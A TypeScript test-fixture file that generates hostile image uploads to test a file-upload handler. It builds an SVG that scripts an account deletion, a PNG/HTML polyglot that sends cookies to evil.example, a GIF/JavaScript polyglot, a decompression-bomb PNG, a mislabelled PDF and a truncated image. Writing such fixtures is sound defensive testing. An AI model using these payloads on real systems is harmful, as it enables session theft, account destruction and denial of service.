import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

// Files an attacker would upload, made in the test rather than kept as binaries in the repo.

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** An SVG drawing that runs a script when opened as a page. */
export function svgWithScript(): Buffer {
  return Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>fetch("/api/account",{method:"DELETE"})</script><rect width="40" height="40"/></svg>',
  );
}

/** A real PNG that is also an HTML page: the page follows the image's end, where decoders stop reading. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  const png = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#80a0c0' } })
    .png()
    .toBuffer();
  return Buffer.concat([png, Buffer.from('<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>')]);
}

/** A real GIF whose comment block holds a script tag (the classic GIF/JavaScript polyglot). */
export async function gifWithScriptComment(): Promise<Buffer> {
  const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
    .gif()
    .toBuffer();
  const text = Buffer.from('<script>alert(document.domain)</script>');
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, text.length]), text, Buffer.from([0])]);
  // after the header (6), the screen descriptor (7) and the global colour table its flags announce
  const flags = gif[10]!;
  const tableEnd = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 0x07) + 1) : 0);
  return Buffer.concat([gif.subarray(0, tableEnd), comment, gif.subarray(tableEnd)]);
}

/**
 * A few hundred bytes that claim a 100,000 x 100,000 picture (10 gigapixels, 30 GB decoded): the
 * decompression bomb. The pixel data is all zeros, which deflate shrinks about a thousandfold.
 */
export function decompressionBombPng(edge = 100_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(edge, 0);
  header.writeUInt32BE(edge, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const firstRows = deflateSync(Buffer.alloc((edge * 3 + 1) * 4));
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', firstRows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A PDF document sent as image/jpeg under a .jpg name: the claimed type is a lie. */
export function pdfClaimingJpeg(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  );
}

/** The first half of a real photo, as an interrupted upload leaves it. */
export async function truncatedPng(): Promise<Buffer> {
  const png = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
    .png()
    .toBuffer();
  return png.subarray(0, Math.floor(png.length / 2));
}
